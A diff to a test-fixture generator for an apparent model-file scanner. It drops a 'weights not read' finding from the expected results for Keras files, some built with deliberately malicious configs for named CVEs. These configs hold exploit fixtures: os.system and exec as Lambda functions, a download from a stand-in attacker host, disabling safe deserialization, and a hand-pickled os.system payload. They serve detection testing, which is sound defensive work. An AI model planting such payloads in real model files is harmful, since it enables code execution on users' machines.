@@ -776,8 +776,7 @@ def keras_fixtures():
                             keras.layers.Lambda(keras.activations.relu), keras.layers.Dense(2, activation="softmax")])
     seq.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
     base = save(seq, "sequential_dense_lambda_relu")
-    # The weights are HDF5, which is not read yet: a .keras file is suspicious for that alone.
-    expect("keras/sequential_dense_lambda_relu.keras", "suspicious", ["PS912"])
+    expect("keras/sequential_dense_lambda_relu.keras", "clean", [])
     also_config(base, "sequential_dense_lambda_relu", "clean", [])
 
     inp = keras.Input((8, 8, 3))
@@ -786,11 +785,11 @@ def keras_fixtures():
     x = keras.layers.GlobalAveragePooling2D()(x)
     out = keras.layers.Dense(3)(x)
     func = save(keras.Model(inp, out), "functional_conv_bn")
-    expect("keras/functional_conv_bn.keras", "suspicious", ["PS912"])
+    expect("keras/functional_conv_bn.keras", "clean", [])
     also_config(func, "functional_conv_bn", "clean", [])
 
     lam = save(keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda t: t * 2)]), "lambda_bytecode")
-    expect("keras/lambda_bytecode.keras", "suspicious", ["PS912", "PS980"])
+    expect("keras/lambda_bytecode.keras", "suspicious", ["PS980"])
     also_config(lam, "lambda_bytecode", "suspicious", ["PS980"])
 
     def lambda_layer(cfg):
@@ -807,7 +806,7 @@ def keras_fixtures():
 
     # CVE-2025-1550: any importable callable as a Lambda function (Keras 3.0-3.8 imported it).
     p = rewrite(base, "cve_2025_1550_os_system", as_function("os", "system", {"command": "id"}))
-    expect("keras/cve_2025_1550_os_system.keras", "dangerous", ["PS981", "PS912"])
+    expect("keras/cve_2025_1550_os_system.keras", "dangerous", ["PS981"])
     also_config(p, "cve_2025_1550_os_system", "dangerous", ["PS981"])
 
     def builtins_exec(cfg):
@@ -816,13 +815,13 @@ def keras_fixtures():
         return cfg
 
     p = rewrite(base, "builtins_exec_function", builtins_exec)
-    expect("keras/builtins_exec_function.keras", "dangerous", ["PS981", "PS912"])
+    expect("keras/builtins_exec_function.keras", "dangerous", ["PS981"])
     # CVE-2025-8747: keras.utils.get_file downloads and writes; CVE-2025-9906: safe mode turned off.
     p = rewrite(base, "cve_2025_8747_get_file", as_function("keras.utils", "get_file",
                                                             {"origin": "http://attacker.invalid/x", "cache_dir": "/tmp"}))
-    expect("keras/cve_2025_8747_get_file.keras", "dangerous", ["PS981", "PS912"])
+    expect("keras/cve_2025_8747_get_file.keras", "dangerous", ["PS981"])
     p = rewrite(base, "cve_2025_9906_enable_unsafe", as_function("keras.config", "enable_unsafe_deserialization"))
-    expect("keras/cve_2025_9906_enable_unsafe.keras", "dangerous", ["PS981", "PS912"])
+    expect("keras/cve_2025_9906_enable_unsafe.keras", "dangerous", ["PS981"])
 
     # CVE-2025-12058: a lookup vocabulary read from a path.
     def lookup(cfg):
@@ -832,7 +831,7 @@ def keras_fixtures():
         return cfg
 
     rewrite(base, "cve_2025_12058_vocabulary_path", lookup)
-    expect("keras/cve_2025_12058_vocabulary_path.keras", "dangerous", ["PS983", "PS912"])
+    expect("keras/cve_2025_12058_vocabulary_path.keras", "dangerous", ["PS983"])
 
     # CVE-2025-49655: TorchModuleWrapper holds base64 of torch.save output; here with a payload
     # pickled by hand (os.system('echo pwned'): never run, only written).
@@ -854,7 +853,7 @@ def keras_fixtures():
         return cfg
 
     rewrite(base, "cve_2025_49655_torch_module_wrapper", torch_wrapper)
-    expect("keras/cve_2025_49655_torch_module_wrapper.keras", "dangerous", ["PS101", "PS982", "PS912"])
+    expect("keras/cve_2025_49655_torch_module_wrapper.keras", "dangerous", ["PS101", "PS982"])
     del pickle
 
 
